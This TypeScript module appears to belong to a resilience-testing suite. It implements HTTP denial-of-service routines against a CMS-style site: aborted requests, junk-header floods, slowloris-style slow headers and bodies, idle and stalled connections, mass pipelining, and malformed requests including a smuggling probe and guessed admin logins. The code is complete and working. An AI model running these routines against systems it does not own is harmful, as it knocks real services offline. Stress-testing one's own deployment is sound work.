import { serializeRequest, type AttackContext } from '../attack-context'
import { publicAdminPaths } from '../targets'

const methods = ['GET', 'HEAD', 'POST', 'OPTIONS', 'PUT', 'PATCH', 'DELETE', 'TRACE', 'PROPFIND', 'CONNECT']
const many = (count: number, toField: (index: number) => [string, string]) =>
  Object.fromEntries(Array.from({ length: count }, (_, index) => toField(index)))
const toHost = (origin: string) => new URL(origin).host

/** Writes a text every 500 ms for as long as the connection is open. */
function writeSlowly(
  socket: { writable: boolean; write: (text: string) => unknown; once: (event: 'close', done: () => void) => unknown },
  text: string,
): void {
  const timer = setInterval(() => socket.writable && socket.write(text), 500)
  socket.once('close', () => clearInterval(timer))
}

/** Requests everything with every method, and disconnects immediately, while queued or during the response. */
export async function abortRequests(context: AttackContext): Promise<void> {
  const everything = [
    ...context.targets,
    ...publicAdminPaths.map((target) => ({
      host: 'content' as const,
      target,
      headers: { 'content-type': 'application/json' },
      body: '{"email":"a@b.example","password":"a guessed password"}',
    })),
  ]
  await context.repeat(8, async (serial, from) => {
    const request = context.pick(everything, serial)
    const socket = await context.openConnection(from, request.host)
    const method = context.pick(methods, Math.floor(serial / everything.length))
    socket.write(serializeRequest({ ...request, method }, toHost(context.origins[request.host])))
    setTimeout(() => socket.destroy(), context.pick([0, 1, 5, 20, 100], serial))
  })
}

/** Hundreds and thousands of header fields, which would hide others if any were discarded. */
export async function sendJunkHeaders(context: AttackContext): Promise<void> {
  const junk = [
    many(450, (index) => [`j${index}`, 'x']),
    many(2_000, (index) => [`j${index}`, '']),
    many(20, (index) => [`j${index}`, 'x'.repeat(1_400)]),
    many(60, (index) => [`j${index}`, 'x'.repeat(1_000)]),
  ]
  await context.repeat(8, (serial, from) => {
    const { host, method, target, headers, body } = context.pick(context.targets, serial)
    return context.sendRequest(from, {
      host,
      method,
      target,
      headers: { ...context.pick(junk, serial), ...headers },
      ...(body ? { body } : {}),
    })
  })
}

export const holdSlowHeaders = (context: AttackContext) =>
  context.holdConnections(400, (socket, serial) => {
    const { host, target, method } = context.pick(
      context.targets.filter((one) => one.host === 'content'),
      serial,
    )
    socket.write(`${method} ${target} HTTP/1.1\r\nHost: ${toHost(context.origins[host])}\r\nX-Slow: `)
    writeSlowly(socket, 'a')
  })

/** Slow bodies, to endpoints with and without a request body. */
export const holdSlowBodies = (context: AttackContext) =>
  context.holdConnections(400, (socket, serial) => {
    const targets = [
      { target: '/api/graphql' },
      { target: '/admin/api/users/login' },
      { target: '/admin/api/users/logout' },
      ...context.targets.filter((one) => one.host === 'content'),
    ]
    const framing = context.pick(
      ['Content-Length: 9000', 'Transfer-Encoding: chunked'],
      Math.floor(serial / targets.length),
    )
    socket.write(
      `POST ${context.pick(targets, serial).target} HTTP/1.1\r\nHost: ${toHost(context.origins.content)}\r\nContent-Type: application/json\r\n${framing}\r\n\r\n`,
    )
    writeSlowly(socket, framing.startsWith('T') ? '1\r\n \r\n' : ' ')
  })

/** Connections that send nothing. */
export const holdIdle = (context: AttackContext) => context.holdConnections(2_000, () => undefined)

/** Pipelines distinct requests for large responses, and reads none of them. */
export const stallReading = (context: AttackContext) =>
  context.holdConnections(1_000, (socket, serial) => {
    socket.pause()
    const large = context.targets.filter(({ host, parameters }) => host === 'content' && parameters.includes('limit'))
    const distinct = large.map(
      ({ target }) => `${target}?limit=100&depth=10&where[id][not_equals]=${1_000_000 + serial}`,
    )
    const plain = context.targets
      .filter(({ host, method }) => host === 'content' && method === 'GET')
      .map(({ target }) => target)
    const target = context.pick(
      [context.pick(distinct, serial), context.pick(plain, serial), context.pick(context.scripts, serial)],
      Math.floor(serial / 7),
    )
    socket.write(
      serializeRequest(
        { target, headers: { 'accept-encoding': context.pick(['identity', 'br', 'gzip'], serial) } },
        toHost(context.origins.content),
      ).repeat(8),
    )
  })

/** A thousand pipelined requests on one connection, without reading the responses. */
export const sendPipelined = (context: AttackContext) =>
  context.repeat(2, async (serial, from) => {
    // Each batch counts as a thousand requests.
    if (serial % 1_000 !== 0) return
    const { host, ...request } = context.pick(context.targets, serial / 1_000)
    const socket = await context.openConnection(from, host)
    socket.pause()
    socket.write(serializeRequest(request, toHost(context.origins[host])).repeat(1_000))
    setTimeout(() => socket.destroy(), 2_000)
  })

const malformed = [
  'GET / HTTP/1.1\r\n\r\n',
  'GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n',
  'GET / HTTP/9.9\r\nHost: a\r\n\r\n',
  'POST /api/graphql HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
  'POST /api/graphql HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n',
  `GET /${'a'.repeat(40_000)} HTTP/1.1\r\nHost: a\r\n\r\n`,
  'GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  '\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001',
  'CONNECT elsewhere.example:443 HTTP/1.1\r\nHost: elsewhere.example\r\n\r\n',
]

/** Malformed or unusual HTTP. */
export const sendMalformed = (context: AttackContext) =>
  context.repeat(8, async (serial, from) => {
    const socket = await context.openConnection(from)
    socket.write(Buffer.from(context.pick(malformed, serial), 'latin1'))
    await new Promise((resolve) => {
      socket.once('close', resolve)
      setTimeout(() => socket.destroy(), 1_000)
    })
  })
